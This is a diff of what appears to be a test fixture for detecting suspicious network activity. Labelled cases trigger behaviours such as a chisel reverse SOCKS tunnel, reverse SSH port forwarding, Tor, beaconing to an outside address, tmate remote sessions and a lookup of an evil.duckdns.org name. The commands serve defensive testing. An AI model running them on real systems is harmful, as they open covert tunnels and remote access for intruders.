@@ -1,15 +1,15 @@
 ## Tunnel started
-#setup named /tmp/chisel
+#setup stubs /tmp/chisel
 /tmp/chisel client 203.0.113.9:8080 R:socks
 ## Port made reachable from outside by SSH
 ssh -o BatchMode=yes -N -R 2222:localhost:22 10.9.8.7
 ## Hidden network used
-#setup named /tmp/tor
+#setup stubs /tmp/tor
 /tmp/tor -f x
 ## Socket of ICMP made by a stranger
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'
 ## Answers taken from DNS texts
-dns TXT 32 8
+ask_dns TXT 32 8
 ## Call home at regular times
 #setup cp /opt/lab/connect /tmp/agent
 for n in $(seq 1 8); do /tmp/agent tcp4 203.0.113.9 443; sleep 2.5; done
@@ -27,14 +27,14 @@ server 'curl -s http://10.9.8.7/x'
 #setup cp /opt/lab/sockets /tmp/agent
 /tmp/agent bind tcp4 0.0.0.0 4447 5
 ## Tool for access from afar started
-#setup named /usr/bin/tmate
+#setup stubs /usr/bin/tmate
 tmate -F
 ## Tool for access from afar started by a server's command
-#setup named /usr/bin/tmate
+#setup stubs /usr/bin/tmate
 server 'tmate -F'
 ## Names that don't exist asked again and again
-#setup nxdomain
-names 45
+#setup refuse_names
+ask_names 45
 ## Name of a service for changing addresses asked for
 python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(bytes.fromhex("000101000001000000000000") + b"\x04evil\x07duckdns\x03org\0\0\1\0\1", ("10.9.8.1", 53))'
 ## Packet socket of a stranger
